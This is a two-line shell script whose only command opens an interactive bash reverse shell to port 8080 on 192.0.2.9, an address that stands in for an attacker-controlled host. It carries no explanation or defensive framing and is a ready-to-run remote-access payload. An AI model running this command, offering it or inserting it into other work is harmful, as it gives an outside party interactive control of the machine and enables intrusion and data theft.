#!/bin/sh
bash -i >& /dev/tcp/192.0.2.9/8080 0>&1
